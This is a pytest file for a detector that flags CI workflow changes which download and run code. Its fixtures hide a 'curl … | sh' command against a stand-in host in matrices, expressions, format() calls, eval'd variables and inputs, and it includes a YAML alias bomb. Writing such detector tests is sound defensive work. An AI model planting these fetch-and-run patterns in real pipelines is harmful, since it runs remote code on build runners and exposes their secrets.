"""What the expressions of a workflow stand for, where the file itself says it."""

import pytest

from changing import changed, seen, shown

PATH = ".github/workflows/kiln.yml"
FETCH = "curl -s https://kiln.example/fire | sh"


def workflow(step: str, *, top: str = "", job: str = "") -> str:
    return f"on: push\n{top}jobs:\n  fire:\n    runs-on: ubuntu-latest\n{job}    steps:\n      - {step}\n"


BAD = {
    "a matrix": workflow("run: ${{ matrix.clay }}", job=f"    strategy:\n      matrix:\n        clay: [make, '{FETCH}']\n"),
    "two of a row": workflow(
        "run: ${{ matrix.pot.a }} | ${{ matrix['b'] }}",
        job="    strategy:\n      matrix:\n        include:\n          - pot: {a: curl -s https://kiln.example/fire}\n            b: sh\n",
    ),
    "a literal": workflow(f"run: ${{{{ '{FETCH}' }}}}"),
    "another literal": workflow(f"run: ${{{{ github.actor == 'clay' && '{FETCH}' || 'make' }}}}"),
    "format": workflow("run: ${{ format('{0} -s https://kiln.example/fire | {1}', 'curl', env.S) }}", top="env:\n  S: sh\n"),
    "format, with what nobody knows": workflow("run: ${{ format('{1} -s https://kiln.example/fire | {2}', github.ref, 'curl', 'sh') }}"),
    "a variable": workflow("run: ${{ env.CLAY }}", top=f"env:\n  CLAY: {FETCH}\n"),
    "a variable that the shell runs": workflow('run: eval "$CLAY"', job=f"    env:\n      CLAY: {FETCH}\n"),
    "a variable of a step": workflow(f"run: eval $CLAY\n        env:\n          CLAY: {FETCH}"),
    "an input": workflow("run: ${{ inputs.clay || 'make' }}").replace(
        "on: push", f"on:\n  workflow_dispatch:\n    inputs:\n      clay:\n        default: {FETCH}"
    ),
}  # fmt: skip


@pytest.mark.parametrize("text", BAD.values(), ids=BAD)
def test_what_is_downloaded_and_run_is_seen(text):
    assert "fetch_and_run" in shown(changed(PATH, None, text))


@pytest.mark.parametrize("text", BAD.values(), ids=BAD)
def test_ordinary_texts_in_its_place_show_nothing(text):
    ordinary = text.replace(FETCH, "make clay").replace("curl", "cat").replace("https://kiln.example/fire", "clay.txt")
    assert not shown(changed(PATH, None, ordinary.replace("sh\n", "sort\n")))


def test_an_input_of_an_action_is_read():
    action = "inputs:\n  clay:\n    default: {}\nruns:\n  using: composite\n  steps:\n    - run: ${{{{ inputs.clay }}}}\n      shell: bash\n"
    assert "fetch_and_run" in shown(changed("action.yml", None, action.format(FETCH)))
    assert not shown(changed("action.yml", None, action.format("make")))


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (".gitlab-ci.yml", f"variables:\n  CLAY: {FETCH}\nfire:\n  script:\n    - eval $CLAY\n"),
        (".gitlab-ci.yml", f"fire:\n  variables:\n    CLAY: {{value: {FETCH}}}\n  script: eval $CLAY\n"),
        (
            ".circleci/config.yml",
            f"jobs:\n  fire:\n    environment:\n      CLAY: {FETCH}\n    steps:\n      - run: eval $CLAY\n",
        ),
    ],
)
def test_variables_of_other_services_are_put_in(path, text):
    assert "fetch_and_run" in shown(changed(path, None, text))
    assert "fetch_and_run" not in shown(changed(path, None, text.replace(FETCH, "make clay")))


def test_another_version_in_a_matrix_is_nothing_new():
    job = "    strategy:\n      matrix:\n        version: [{}]\n"
    step = "run: curl -s https://kiln.example/${{ matrix.version }}/fire | sh"
    old, new = (workflow(step, job=job.format(versions)) for versions in ("'1'", "'1', '2', node"))
    assert not shown(changed(PATH, old, new))


def test_it_has_its_line():
    step = "run: |\n          make\n          ${{ matrix.clay }}"
    text = workflow(step, job=f"    strategy:\n      matrix:\n        clay: ['{FETCH}']\n")
    (observation,) = seen(changed(PATH, None, text))
    assert observation.line == 1 + next(i for i, line in enumerate(text.split("\n")) if "${{" in line)


def test_a_matrix_of_aliases_is_survived():
    aliases = "".join(f"x{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 30))
    text = (
        "x0: &a0 [curl, sh]\n"
        + aliases
        + workflow("run: ${{ matrix.clay }}", job="    strategy:\n      matrix:\n        clay: *a29\n")
    )
    assert "fetch_and_run" not in shown(changed(PATH, None, text))
